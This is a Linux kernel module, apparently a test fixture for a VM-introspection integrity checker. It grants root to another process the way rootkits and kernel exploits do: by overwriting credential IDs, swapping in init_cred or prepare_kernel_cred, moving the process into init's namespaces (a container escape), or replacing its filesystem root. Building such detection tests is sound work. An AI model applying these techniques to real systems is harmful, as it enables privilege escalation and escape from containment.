// SPDX-License-Identifier: GPL-2.0
/*
 * vmiaas_attack_cred: credential escalation of another process, for the
 * integrity tests. commit_creds() only acts on current, so rootkits
 * write another task's credentials directly; and the payloads of kernel
 * exploits run in the task they escalate, which a module stands in for
 * here by writing what they leave behind (mode=):
 *
 *   ids     overwrite the uid/gid fields (real, effective, saved, fs) of
 *           the task's cred in place, through a cast-away const pointer
 *   init    point the task's cred and real_cred at init_cred (its address
 *           from /proc/kallsyms: initcred=0x..., the symbol is not exported)
 *   kcred   give the task the result of prepare_kernel_cred(&init_task),
 *           a fresh copy of init_cred (6.1 also takes NULL for it; 6.2 on
 *           warn and return NULL): commit_creds(prepare_kernel_cred(...))
 *   nsproxy point the task's nsproxy at init_nsproxy (nsproxy=0x..., from
 *           /proc/kallsyms): switch_task_namespaces(find_task_by_vpid(1),
 *           &init_nsproxy), run in a container, does it to the container's
 *           init
 *   fsroot  set the task's root directory to init's (init_task.fs->root):
 *           current->fs = copy_fs_struct(init_task.fs)
 *
 * Unloading restores what was changed.
 */
#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/cred.h>
#include <linux/fs_struct.h>
#include <linux/init.h>
#include <linux/kernel.h>
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/nsproxy.h>
#include <linux/path.h>
#include <linux/pid.h>
#include <linux/rcupdate.h>
#include <linux/sched.h>
#include <linux/sched/task.h>
#include <linux/string.h>
#include <linux/uidgid.h>

static int pid;
module_param(pid, int, 0444);
MODULE_PARM_DESC(pid, "process to give root");

static char *mode = "ids";
module_param(mode, charp, 0444);
MODULE_PARM_DESC(mode, "ids, init, kcred, nsproxy or fsroot (see the top of the file)");

static unsigned long initcred;
module_param(initcred, ulong, 0444);
MODULE_PARM_DESC(initcred, "address of init_cred (from /proc/kallsyms), mode=init");

static unsigned long nsproxy;
module_param(nsproxy, ulong, 0444);
MODULE_PARM_DESC(nsproxy, "address of init_nsproxy (from /proc/kallsyms), mode=nsproxy");

static struct task_struct *victim;
static struct cred *ids_cred;
static struct cred saved_ids;
static const struct cred *saved_cred, *saved_real;
static struct nsproxy *saved_nsproxy;
static struct path saved_root;
static bool root_set;

/* The task's cred and real_cred become @new (a reference each). */
static void creds_swap(const struct cred *new)
{
	task_lock(victim);
	saved_cred = victim->cred;
	saved_real = victim->real_cred;
	rcu_assign_pointer(victim->real_cred, get_cred(new));
	rcu_assign_pointer(victim->cred, get_cred(new));
	task_unlock(victim);
}

/*
 * The task's root becomes @root, under fs->lock and fs->seq as
 * set_fs_root() does; its old one goes to @old. false if the task has
 * no fs (exited: exit_fs() dropped the root it held).
 */
static bool root_exchange(const struct path *root, struct path *old)
{
	struct fs_struct *fs;

	task_lock(victim);
	fs = victim->fs;
	if (fs) {
		spin_lock(&fs->lock);
		write_seqcount_begin(&fs->seq);
		*old = fs->root;
		fs->root = *root;
		write_seqcount_end(&fs->seq);
		spin_unlock(&fs->lock);
	}
	task_unlock(victim);
	return fs;
}

static void ids_write(struct cred *c, const struct cred *from)
{
	c->uid = from->uid;
	c->euid = from->euid;
	c->suid = from->suid;
	c->fsuid = from->fsuid;
	c->gid = from->gid;
	c->egid = from->egid;
	c->sgid = from->sgid;
	c->fsgid = from->fsgid;
}

static int __init vmiaas_attack_cred_init(void)
{
	struct cred root = {
		.uid = GLOBAL_ROOT_UID, .euid = GLOBAL_ROOT_UID,
		.suid = GLOBAL_ROOT_UID, .fsuid = GLOBAL_ROOT_UID,
		.gid = GLOBAL_ROOT_GID, .egid = GLOBAL_ROOT_GID,
		.sgid = GLOBAL_ROOT_GID, .fsgid = GLOBAL_ROOT_GID,
	};
	struct pid *p;

	if (pid <= 1 || (strcmp(mode, "ids") && strcmp(mode, "init") &&
			 strcmp(mode, "kcred") && strcmp(mode, "nsproxy") &&
			 strcmp(mode, "fsroot")) ||
	    (!strcmp(mode, "init") && !initcred) ||
	    (!strcmp(mode, "nsproxy") && !nsproxy))
		return -EINVAL;
	p = find_get_pid(pid);
	victim = p ? get_pid_task(p, PIDTYPE_PID) : NULL;
	put_pid(p);
	if (!victim)
		return -ESRCH;
	if (!strcmp(mode, "ids")) {
		rcu_read_lock();
		ids_cred = (struct cred *)get_cred(rcu_dereference(victim->cred));
		rcu_read_unlock();
		saved_ids = *ids_cred;
		ids_write(ids_cred, &root);
	} else if (!strcmp(mode, "init")) {
		creds_swap((const struct cred *)initcred);
	} else if (!strcmp(mode, "kcred")) {
		struct cred *new = prepare_kernel_cred(&init_task);

		if (!new) {
			put_task_struct(victim);
			return -ENOMEM;
		}
		creds_swap(new);
		put_cred(new);
	} else if (!strcmp(mode, "nsproxy")) {
		/*
		 * The task's reference to its own nsproxy passes to
		 * saved_nsproxy, and none is taken on init_nsproxy (static,
		 * shared by every kernel thread): the unload gives the
		 * task its own back. A task exiting meanwhile would drop
		 * one of init_nsproxy's references and leak its own (the
		 * test unloads first; free_nsproxy() is not exported).
		 */
		task_lock(victim);
		saved_nsproxy = victim->nsproxy;
		victim->nsproxy = (struct nsproxy *)nsproxy;
		task_unlock(victim);
	} else {
		struct path root;

		get_fs_root(init_task.fs, &root);
		if (!root_exchange(&root, &saved_root)) {
			path_put(&root);
			put_task_struct(victim);
			return -ESRCH;
		}
		root_set = true;
	}
	pr_info("pid %d (%s) given root (%s)\n", pid, victim->comm, mode);
	return 0;
}

static void __exit vmiaas_attack_cred_exit(void)
{
	const struct cred *c, *r;

	if (ids_cred) {
		ids_write(ids_cred, &saved_ids);
		put_cred(ids_cred);
	} else if (saved_nsproxy) {
		task_lock(victim);
		if (victim->nsproxy)	/* not exited */
			victim->nsproxy = saved_nsproxy;
		task_unlock(victim);
	} else if (root_set) {
		struct path root;

		if (root_exchange(&saved_root, &root))
			path_put(&root);
		else
			path_put(&saved_root);
	} else {
		task_lock(victim);
		c = victim->cred;
		r = victim->real_cred;
		rcu_assign_pointer(victim->real_cred, saved_real);
		rcu_assign_pointer(victim->cred, saved_cred);
		task_unlock(victim);
		synchronize_rcu();
		put_cred(c);
		put_cred(r);
	}
	put_task_struct(victim);
}

module_init(vmiaas_attack_cred_init);
module_exit(vmiaas_attack_cred_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("vmiaas test: escalating another process's credentials");
